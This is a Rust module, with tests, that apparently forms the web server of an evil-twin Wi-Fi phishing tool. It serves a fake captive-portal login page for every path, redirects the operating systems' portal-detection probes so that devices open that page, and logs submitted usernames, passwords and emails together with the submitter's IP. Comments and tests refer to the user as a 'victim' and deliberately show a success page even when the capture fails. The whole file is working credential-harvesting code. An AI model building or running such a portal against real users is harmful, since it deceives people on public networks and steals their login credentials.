//! Minimal HTTP responder for the portal
//!
//! Serves the selected portal page for `/` and any unmatched path, bounces
//! the OS captive-portal probe paths back to `/` so client devices pop their
//! sign-in UI, and captures whatever `POST /login` submits. One connection
//! is handled start to finish per call; HTTP/1.0-style close semantics.

use crate::creds::{CapturedCredential, CredentialLog};
use crate::templates;
use std::io;
use std::net::SocketAddr;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::{TcpListener, TcpStream};

const MAX_HEAD: usize = 8 * 1024;
const MAX_BODY: usize = 16 * 1024;

/// Paths the major OS captive-portal detectors hit after joining.
const PROBE_PATHS: [&str; 3] = ["/generate_204", "/gen_204", "/hotspot-detect.html"];

pub struct HttpResponder {
    listener: TcpListener,
}

impl HttpResponder {
    pub async fn bind(addr: &str) -> io::Result<Self> {
        let listener = TcpListener::bind(addr).await?;
        tracing::info!("HTTP responder listening on {}", listener.local_addr()?);
        Ok(Self { listener })
    }

    pub fn local_addr(&self) -> io::Result<SocketAddr> {
        self.listener.local_addr()
    }

    pub async fn accept(&self) -> io::Result<(TcpStream, SocketAddr)> {
        self.listener.accept().await
    }
}

/// A parsed request; just enough of HTTP/1.1 for a portal.
#[derive(Debug)]
struct Request {
    method: String,
    path: String,
    body: String,
}

/// Handle one client connection to completion.
pub async fn handle_connection(
    mut stream: TcpStream,
    peer: SocketAddr,
    portal_html: &str,
    log: &mut CredentialLog,
    timestamp: String,
) -> io::Result<()> {
    let request = match read_request(&mut stream).await {
        Ok(req) => req,
        Err(e) => {
            tracing::debug!("Bad request from {}: {}", peer, e);
            return Ok(());
        }
    };

    tracing::debug!("{} {} from {}", request.method, request.path, peer);

    let response = if request.method == "POST" && request.path == "/login" {
        capture(&request.body, peer, log, timestamp);
        ok_response(templates::SUCCESS_PAGE)
    } else if request.method == "GET" && PROBE_PATHS.contains(&request.path.as_str()) {
        redirect_response("/")
    } else {
        // `GET /` and every unmatched path get the portal page.
        ok_response(portal_html)
    };

    stream.write_all(response.as_bytes()).await?;
    stream.flush().await?;
    Ok(())
}

async fn read_request(stream: &mut TcpStream) -> io::Result<Request> {
    // The length cap on the raw stream bounds what a newline-free line can
    // buffer; the head budget below bounds the line total.
    let mut reader = BufReader::new(stream.take((MAX_HEAD + MAX_BODY) as u64));

    let mut request_line = String::new();
    reader.read_line(&mut request_line).await?;
    let mut head_bytes = request_line.len();
    if head_bytes > MAX_HEAD {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            "request head too large",
        ));
    }

    let mut parts = request_line.split_whitespace();
    let method = parts
        .next()
        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidData, "empty request line"))?
        .to_string();
    let path = parts
        .next()
        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidData, "missing path"))?
        .to_string();

    let mut content_length = 0usize;
    loop {
        let mut line = String::new();
        head_bytes += reader.read_line(&mut line).await?;
        if head_bytes > MAX_HEAD {
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                "request head too large",
            ));
        }
        let line = line.trim_end();
        if line.is_empty() {
            break;
        }
        if let Some(value) = line
            .to_ascii_lowercase()
            .strip_prefix("content-length:")
            .map(str::trim)
        {
            content_length = value.parse().unwrap_or(0);
        }
    }

    if content_length > MAX_BODY {
        return Err(io::Error::new(io::ErrorKind::InvalidData, "body too large"));
    }

    let mut body = vec![0u8; content_length];
    reader.read_exact(&mut body).await?;

    Ok(Request {
        method,
        path,
        body: String::from_utf8_lossy(&body).into_owned(),
    })
}

/// Record a login submission. Values are taken exactly as submitted, never
/// validated; the log-full case is reported and otherwise swallowed so the
/// victim still sees the success page.
fn capture(body: &str, peer: SocketAddr, log: &mut CredentialLog, timestamp: String) {
    let (username, password, email) = parse_login_form(body);

    tracing::info!(
        "Credential capture from {}: user={:?} email={:?}",
        peer.ip(),
        username,
        email
    );

    let cred = CapturedCredential {
        timestamp,
        username,
        password,
        email,
        source_ip: peer.ip(),
    };

    if let Err(e) = log.append(cred) {
        tracing::warn!("{}", e);
    }
}

/// Pull the optional login fields out of a urlencoded body. A missing key
/// stays `None`; a present-but-empty value is `Some("")`.
fn parse_login_form(body: &str) -> (Option<String>, Option<String>, Option<String>) {
    let mut username = None;
    let mut password = None;
    let mut email = None;

    for pair in body.split('&') {
        let (key, value) = match pair.split_once('=') {
            Some((k, v)) => (k, v),
            None => (pair, ""),
        };

        let value = urlencoding::decode(&value.replace('+', " "))
            .map(|v| v.into_owned())
            .unwrap_or_else(|_| value.to_string());

        match key {
            "username" => username = Some(value),
            "password" => password = Some(value),
            "email" => email = Some(value),
            _ => {}
        }
    }

    (username, password, email)
}

fn ok_response(body: &str) -> String {
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
        body.len(),
        body
    )
}

fn redirect_response(location: &str) -> String {
    format!(
        "HTTP/1.1 302 Found\r\nLocation: {}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        location
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::net::TcpStream;

    async fn roundtrip(raw_request: &str, log: &mut CredentialLog) -> String {
        let responder = HttpResponder::bind("127.0.0.1:0").await.unwrap();
        let addr = responder.local_addr().unwrap();

        let mut client = TcpStream::connect(addr).await.unwrap();
        client.write_all(raw_request.as_bytes()).await.unwrap();

        let (stream, peer) = responder.accept().await.unwrap();
        handle_connection(stream, peer, "<html>portal</html>", log, "00:00:10".to_string())
            .await
            .unwrap();

        let mut response = String::new();
        client.read_to_string(&mut response).await.unwrap();
        response
    }

    #[tokio::test]
    async fn test_root_serves_portal() {
        let mut log = CredentialLog::with_capacity(5);
        let resp = roundtrip("GET / HTTP/1.1\r\nHost: x\r\n\r\n", &mut log).await;
        assert!(resp.starts_with("HTTP/1.1 200"));
        assert!(resp.contains("<html>portal</html>"));
    }

    #[tokio::test]
    async fn test_catch_all_serves_portal() {
        let mut log = CredentialLog::with_capacity(5);
        let resp = roundtrip("GET /some/unknown/path HTTP/1.1\r\nHost: x\r\n\r\n", &mut log).await;
        assert!(resp.contains("<html>portal</html>"));
    }

    #[tokio::test]
    async fn test_probe_paths_redirect() {
        for path in PROBE_PATHS {
            let mut log = CredentialLog::with_capacity(5);
            let req = format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n");
            let resp = roundtrip(&req, &mut log).await;
            assert!(resp.starts_with("HTTP/1.1 302"), "{path}");
            assert!(resp.contains("Location: /"), "{path}");
        }
    }

    #[tokio::test]
    async fn test_login_capture() {
        let mut log = CredentialLog::with_capacity(5);
        let body = "username=alice&password=hunter2";
        let req = format!(
            "POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{}",
            body.len(),
            body
        );

        let resp = roundtrip(&req, &mut log).await;

        assert!(resp.starts_with("HTTP/1.1 200"));
        assert!(resp.contains("Connected!"));

        assert_eq!(log.len(), 1);
        let cred = &log.entries()[0];
        assert_eq!(cred.username.as_deref(), Some("alice"));
        assert_eq!(cred.password.as_deref(), Some("hunter2"));
        assert!(cred.email.is_none());
        assert_eq!(cred.timestamp, "00:00:10");
    }

    #[tokio::test]
    async fn test_login_capture_rejected_when_full() {
        let mut log = CredentialLog::with_capacity(0);
        let body = "username=alice";
        let req = format!(
            "POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{}",
            body.len(),
            body
        );

        let resp = roundtrip(&req, &mut log).await;

        // The victim still sees success; only the operator loses the entry.
        assert!(resp.contains("Connected!"));
        assert_eq!(log.len(), 0);
    }

    #[tokio::test]
    async fn test_oversized_request_head_dropped() {
        let responder = HttpResponder::bind("127.0.0.1:0").await.unwrap();
        let addr = responder.local_addr().unwrap();
        let mut log = CredentialLog::with_capacity(5);

        let mut client = TcpStream::connect(addr).await.unwrap();
        let req = format!(
            "GET / HTTP/1.1\r\nX-Filler: {}\r\n\r\n",
            "a".repeat(4 * MAX_HEAD)
        );

        let write = async {
            let _ = client.write_all(req.as_bytes()).await;
        };
        let serve = async {
            let (stream, peer) = responder.accept().await.unwrap();
            handle_connection(stream, peer, "<html>portal</html>", &mut log, "00:00:10".to_string())
                .await
                .unwrap();
        };
        tokio::join!(write, serve);

        // The connection is dropped without an answer; nothing past the
        // head budget was buffered into a response.
        let mut response = String::new();
        let _ = client.read_to_string(&mut response).await;
        assert!(response.is_empty());
    }

    #[test]
    fn test_parse_login_form() {
        let (u, p, e) = parse_login_form("username=bob&password=p%40ss&email=b%40x.io");
        assert_eq!(u.as_deref(), Some("bob"));
        assert_eq!(p.as_deref(), Some("p@ss"));
        assert_eq!(e.as_deref(), Some("b@x.io"));
    }

    #[test]
    fn test_parse_login_form_subset_and_empty() {
        let (u, p, e) = parse_login_form("email=a%40b.c");
        assert!(u.is_none());
        assert!(p.is_none());
        assert_eq!(e.as_deref(), Some("a@b.c"));

        // Present-but-empty is not the same as absent.
        let (u, _, _) = parse_login_form("username=");
        assert_eq!(u.as_deref(), Some(""));
    }

    #[test]
    fn test_parse_login_form_plus_as_space() {
        let (u, _, _) = parse_login_form("username=john+smith");
        assert_eq!(u.as_deref(), Some("john smith"));
    }
}
